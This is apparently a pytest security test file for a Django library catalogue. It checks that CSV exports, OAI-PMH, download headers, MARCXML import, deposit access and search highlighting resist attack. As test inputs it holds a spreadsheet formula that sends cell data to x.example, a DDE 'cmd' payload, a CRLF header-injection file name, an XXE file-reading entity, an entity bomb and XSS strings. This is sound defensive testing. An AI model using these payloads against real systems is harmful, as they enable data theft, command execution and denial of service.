"""Security review: exports that spreadsheets would run, OAI-PMH tombstones, download headers,
MARCXML entities and deposits of other users."""

from __future__ import annotations

import csv
import datetime as dt
import io
import unicodedata

import pytest
from django.utils import timezone

from sti.library import imports, marc, services
from sti.library.choices import AccessLevel, DocumentStatus
from sti.library.models import Document
from sti.library.tests.conftest import docx_bytes, upload

pytestmark = pytest.mark.django_db
FORMULA_STARTS = ("=", "+", "-", "@")


# ---------------------------------------------------------------------------
# CSV export: no cell may start a spreadsheet formula
# ---------------------------------------------------------------------------
def test_csv_export_neutralises_spreadsheet_formulas_and_reads_back(make_document, client):
    title = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
    document = make_document(
        title,
        creators=["@SUM(1+1)*cmd|' /C calc'!A0", "Nguyễn Văn Đức"],
        keywords="+lúa; đất phèn",
        abstract=unicodedata.normalize("NFD", "-2+3 Cần Thơ"),
        publisher="Trung tâm Thông tin KH&CN",
    )
    text = client.get("/thu-vien/xuat/csv/", {"id": [document.pk]}).content.decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text)))
    for column in ("title", "creators", "keywords", "abstract"):
        assert row[column].startswith("'"), column
    assert not [value for value in row.values() if value.startswith(FORMULA_STARTS)]
    assert row["publisher"] == "Trung tâm Thông tin KH&CN"  # ordinary text is left alone
    # The importer restores the original values, so the export still reads back unchanged.
    plan = imports.plan_sheet(text.encode("utf-8"), "x.csv")
    assert plan.ok
    assert plan.rows[0].data["title"] == title
    assert plan.rows[0].creators == ["@SUM(1+1)*cmd|' /C calc'!A0", "Nguyễn Văn Đức"]
    assert plan.rows[0].data["abstract"] == "-2+3 Cần Thơ"


# ---------------------------------------------------------------------------
# OAI-PMH: a record never public must not appear, not even as a deleted header
# ---------------------------------------------------------------------------
def test_oai_has_no_tombstone_for_a_record_that_was_never_public(make_document, editor, client):
    later = timezone.localdate() + dt.timedelta(days=90)
    document = make_document(
        "Báo cáo mật về đê bao Ô Môn", access=AccessLevel.EMBARGOED, embargo_until=later
    )
    services.update_document(editor, document, {"access": AccessLevel.STAFF})
    body = client.get(
        "/oai", {"verb": "ListIdentifiers", "metadataPrefix": "oai_dc"}
    ).content.decode()
    assert f"document/{document.pk}<" not in body
    body = client.get(
        "/oai",
        {"verb": "GetRecord", "metadataPrefix": "oai_dc", "identifier": document.oai_identifier},
    ).content.decode()
    assert "idDoesNotExist" in body


def test_oai_keeps_the_tombstone_of_a_record_once_public(make_document, editor, client):
    document = make_document("Bản đồ đất Đồng Tháp Mười", access=AccessLevel.PUBLIC)
    services.update_document(editor, document, {"access": AccessLevel.STAFF})
    body = client.get(
        "/oai", {"verb": "ListIdentifiers", "metadataPrefix": "oai_dc"}
    ).content.decode()
    assert f"document/{document.pk}<" in body and 'status="deleted"' in body


def test_oai_keeps_the_tombstone_after_an_embargo_lapsed(make_document, editor, client):
    past = timezone.localdate() - dt.timedelta(days=1)
    document = make_document("Luận văn về cá tra", access=AccessLevel.EMBARGOED, embargo_until=past)
    Document.objects.filter(pk=document.pk).update(
        oai_exposed=False
    )  # as if the lapse went unsaved
    services.update_document(
        editor, Document.objects.get(pk=document.pk), {"access": AccessLevel.STAFF}
    )
    body = client.get(
        "/oai", {"verb": "ListIdentifiers", "metadataPrefix": "oai_dc"}
    ).content.decode()
    assert f"document/{document.pk}<" in body and 'status="deleted"' in body


# ---------------------------------------------------------------------------
# Downloads: Vietnamese file names are RFC 6266/5987-encoded; no header injection
# ---------------------------------------------------------------------------
def test_download_name_is_encoded_and_cannot_inject_headers(
    make_document, editor, client, run_on_commit
):
    document = make_document("Tài liệu có tệp")
    name = unicodedata.normalize("NFD", 'Báo cáo "đợt 1"\r\nX-Evil: 1.docx')
    with run_on_commit():
        file = services.add_file(editor, document, upload(name, docx_bytes("Nội dung")))
    response = client.get(f"/thu-vien/tep/{file.pk}/")
    disposition = response["Content-Disposition"]
    # The shared form (sti.core.exports.content_disposition): an ASCII fallback, then UTF-8.
    assert disposition.startswith("attachment;") and "filename*=utf-8''" in disposition.lower()
    assert disposition.isascii() and "\r" not in disposition and "\n" not in disposition
    assert "X-Evil" not in response.headers
    assert response["X-Content-Type-Options"] == "nosniff"


# ---------------------------------------------------------------------------
# MARCXML: no external entity is fetched, no entity bomb is expanded
# ---------------------------------------------------------------------------
def _marcxml(doctype: str, title: str) -> bytes:
    return (
        f'<?xml version="1.0"?>{doctype}<collection xmlns="http://www.loc.gov/MARC21/slim"><record>'
        '<leader>00000nam a2200000 a 4500</leader><datafield tag="245" ind1="0" ind2="0">'
        f'<subfield code="a">{title}</subfield></datafield></record></collection>'
    ).encode()


def test_marcxml_external_entities_are_not_resolved(tmp_path):
    secret = tmp_path / "bi-mat.txt"
    secret.write_text("MẬT KHẨU", encoding="utf-8")
    data = _marcxml(f'<!DOCTYPE r [<!ENTITY x SYSTEM "{secret.as_uri()}">]>', "Tiêu đề &x;")
    try:
        records = marc.read_records(data)
    except ValueError:
        return
    assert "MẬT" not in records[0]["245"]["a"]


def test_marcxml_entity_bomb_is_refused():
    entities = '<!ENTITY a0 "ĐĐĐĐĐĐĐĐĐĐ">' + "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
    )
    with pytest.raises(imports.ImportRejected):
        imports.plan_marc(_marcxml(f"<!DOCTYPE r [{entities}]>", "&a9;"))


# ---------------------------------------------------------------------------
# Deposits: one registered user cannot act on another's
# ---------------------------------------------------------------------------
def test_registered_user_cannot_touch_another_users_deposit(
    registered, editor, client_for, django_user_model
):
    other = django_user_model.objects.create_user(username="nguoi-khac", password="x")
    deposit = services.deposit(other, {"title": "Báo cáo của người khác", "source_type": "report"})
    services.return_for_changes(editor, deposit, "Bổ sung tóm tắt")
    client = client_for(registered)
    assert client.get(f"/thu-vien/tai-lieu/{deposit.pk}/").status_code == 404
    assert client.get(f"/thu-vien/tai-lieu/{deposit.pk}/sua/").status_code == 404
    assert client.post(f"/thu-vien/tai-lieu/{deposit.pk}/nop-lai/").status_code == 404
    assert (
        client.post(
            f"/thu-vien/tai-lieu/{deposit.pk}/tep/", {"file": upload("a.docx", docx_bytes("x"))}
        ).status_code
        == 404
    )
    assert (
        client.post(f"/thu-vien/tai-lieu/{deposit.pk}/duyet/", {"decision": "accept"}).status_code
        == 403
    )
    csv_text = client.get("/thu-vien/xuat/csv/", {"id": [deposit.pk]}).content.decode("utf-8-sig")
    assert "người khác" not in csv_text
    deposit.refresh_from_db()
    assert deposit.status == DocumentStatus.RETURNED


# ---------------------------------------------------------------------------
# Highlighted titles and snippets are escaped before they reach `|safe`
# ---------------------------------------------------------------------------
@pytest.mark.parametrize("q", ["", "co do", "Cờ Đỏ"])
def test_highlighted_hits_are_escaped(make_document, client, run_on_commit, q):
    with run_on_commit():
        make_document(
            '<img src=x onerror="alert(1)"> Đường Cờ Đỏ',
            abstract=unicodedata.normalize("NFD", "Cờ Đỏ <script>alert('tóm tắt')</script>"),
        )
    for url in ("/thu-vien/", "/tim-kiem/"):
        html = client.get(url, {"q": q}).content.decode()
        assert "Cờ Đỏ" in html or "<mark>Cờ</mark>" in html, url
        assert "<img src=x" not in html and "<script>alert(" not in html, url
        assert "&lt;img src=x" in html, url


# ---------------------------------------------------------------------------
# A depositor editing a returned deposit keeps the deposit's limits
# ---------------------------------------------------------------------------
def test_depositor_edit_cannot_set_cataloguing_or_restricted_access(
    registered, editor, org_a, client_for
):
    from sti.library.models import Collection

    collection = Collection.objects.create(name="Tạp chí KH&CN Cần Thơ", slug="tap-chi")
    deposit = services.deposit(
        registered, {"title": "Báo cáo đề tài cấp cơ sở", "source_type": "report"}
    )
    services.return_for_changes(editor, deposit, "Bổ sung tóm tắt")
    response = client_for(registered).post(
        f"/thu-vien/tai-lieu/{deposit.pk}/sua/",
        {
            "title": unicodedata.normalize("NFD", "Báo cáo đề tài cấp cơ sở (đã bổ sung)"),
            "source_type": "report",
            "language": "vie",
            "access": AccessLevel.EMBARGOED,
            "embargo_until": "2099-01-01",
            "digitization": "published",
            "collections": [collection.pk],
            "organizations": [org_a.pk],
            "creators_text": "Lê Thị Đào",
        },
    )
    assert response.status_code == 302
    deposit.refresh_from_db()
    assert deposit.title == "Báo cáo đề tài cấp cơ sở (đã bổ sung)"  # the edit itself went through
    assert deposit.creator_names() == ["Lê Thị Đào"]
    assert deposit.access == AccessLevel.PUBLIC and deposit.embargo_until is None
    assert deposit.digitization == "born_digital"
    assert not deposit.collections.exists() and not deposit.organizations.exists()
    # An editor still catalogues the same record freely.
    services.update_document(
        editor, deposit, {"access": AccessLevel.STAFF}, collections=[collection]
    )
    deposit.refresh_from_db()
    assert deposit.access == AccessLevel.STAFF and list(deposit.collections.all()) == [collection]


@pytest.mark.django_db
def test_staged_import_files_respect_the_upload_limit(client_for, editor, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.STI_MAX_UPLOAD_MB = 1
    big = SimpleUploadedFile(
        "du-lieu.csv", b"title\n" + b"x" * (1024 * 1024 + 10), content_type="text/csv"
    )
    response = client_for(editor).post("/thu-vien/bien-tap/nhap/", {"metadata": big})
    assert response.status_code == 200
    assert "giới hạn là 1 MB" in response.content.decode()
    marc = SimpleUploadedFile("bieu-ghi.mrc", b"0" * (1024 * 1024 + 10))
    response = client_for(editor).post("/thu-vien/bien-tap/nhap-marc/", {"file": marc})
    assert "giới hạn là 1 MB" in response.content.decode()
